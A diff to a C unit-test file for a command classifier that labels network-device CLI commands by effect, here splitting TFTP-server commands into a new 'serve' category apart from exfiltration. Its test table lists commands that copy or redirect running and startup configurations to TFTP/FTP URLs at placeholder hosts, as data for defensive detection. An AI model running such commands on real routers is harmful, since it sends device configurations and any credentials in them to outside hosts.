@@ -3,7 +3,7 @@
 
 #include <criterion/criterion.h>
 
-enum { EMPTY, PREP, OUT, CONFIG, IMAGE, RUN };
+enum { EMPTY, PREP, OUT, SERVE, CONFIG, IMAGE, RUN };
 
 struct judged {
     const char *command;
@@ -35,12 +35,12 @@ static const struct judged judged[] = {
     {"\"copy running-config tftp://198.51.100.7/x\"", OUT},
     {"do copy run tftp://198.51.100.7/x", OUT},
     {"copy run xyz://198.51.100.7/x", OUT},
-    {"configure tftp-server nvram:startup-config", OUT},
-    {"conf tftp-server nvram:startup-config", OUT},
-    {"tftp-server nvram:startup-config", OUT},
-    {"tftp-server system:running-config", OUT},
-    {"TFTP-Server flash:/config.text", OUT},
-    {"tftp nvram:", OUT},
+    {"configure tftp-server nvram:startup-config", SERVE},
+    {"conf tftp-server nvram:startup-config", SERVE},
+    {"tftp-server nvram:startup-config", SERVE},
+    {"tftp-server system:running-config", SERVE},
+    {"TFTP-Server flash:/config.text", SERVE},
+    {"tftp nvram:", SERVE},
     {"show running-config | redirect tftp://198.51.100.7/x", OUT},
     {"show run | redirect ftp://198.51.100.7/x", OUT},
     {"sh run|redirect tftp://198.51.100.7/x", OUT},
@@ -155,7 +155,7 @@ Test(command, a_file_that_was_prepared_is_a_configuration)
     cr_expect_eq(smini_command_effect(copy, false), SMINI_COMMAND_EXECUTES);
     cr_expect_eq(smini_command_effect(copy, true), SMINI_COMMAND_EXFILTRATES);
     struct smini_span server = smini_span_text("tftp-server flash:x");
-    cr_expect_eq(smini_command_effect(server, true), SMINI_COMMAND_EXFILTRATES);
+    cr_expect_eq(smini_command_effect(server, true), SMINI_COMMAND_SERVES);
 }
 
 #define ONE "copy tftp://192.0.2.1/v/A-0021.d7ae.fc00.REV2 flash:A-0021.d7ae.fc00.tmp"
